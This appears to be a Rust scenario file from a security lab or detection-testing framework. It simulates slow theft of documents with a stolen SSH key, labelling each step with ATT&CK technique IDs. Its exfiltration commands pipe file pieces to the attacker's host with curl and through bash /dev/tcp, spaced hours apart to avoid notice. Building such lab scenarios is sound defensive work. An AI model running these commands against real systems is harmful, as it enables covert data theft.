//! With a stolen key and nothing that was not there before, documents leave in small pieces over days.
//!
//! Hard because: hours lie between the steps, no file is made, only the host's own programs run, and each piece is as small as an
//! ordinary request.

use crate::Lab;
use crate::life::remote::{self, Thief, make_key};
use crate::life::{documents, host_tasks, web};
use crate::program::user;
use anyhow::{Result, ensure};
use std::time::Duration;

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("files-2")?;
    let (admin, attacker) = (lab.outsider("admin")?, lab.outsider("attacker")?);
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    documents::make(lab, &host)?;
    documents::edit(lab, &host)?;
    remote::work(lab, &admin, &host, "deploy")?;
    make_key(&attacker, "/root/.ssh/stolen", user::ROOT, &[(&host, "/home/alice", user::ALICE)])?;
    web::take_upload(&attacker)?;
    lab.wait(12..18);

    let attack = lab.attack("slow theft with what is there")?;
    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "alice", to: &host };
    let step = attack.step("a login, and a look around", &["T1078.003", "T1083"]);
    step.remote(&host, &attacker);
    let said = thief.log_in(&format!(
        "{} id; ls {}; {}",
        step.mark(&host)?,
        documents::FOLDER,
        lab.pick(&["w", "df -h", "date"])
    ))?;
    ensure!(said.contains("plans"), "the login did not work: {said}");
    drop(step);

    for (n, folder) in ["plans", "letters", "sums"].into_iter().enumerate() {
        let hours = lab.number(5..11);
        lab.pause(Duration::from_secs(3600 * u64::from(hours)));
        lab.wait(8..12);
        let step = attack.step(&format!("piece {} leaves", n + 1), &["T1029", "T1030", "T1048.003"]);
        step.remote(&host, &attacker);
        let way = match lab.number(0..2) {
            0 => format!("curl -s --data-binary @- http://{}/", attacker.address),
            _ => format!("bash -c \"cat > /dev/tcp/{}/80\"", attacker.address),
        };
        thief.log_in(&format!("{} head -c 1500 {}/{folder}/*.txt | {way}", step.mark(&host)?, documents::FOLDER))?;
        drop(step);
        lab.wait(5..9);
    }
    Ok(())
}
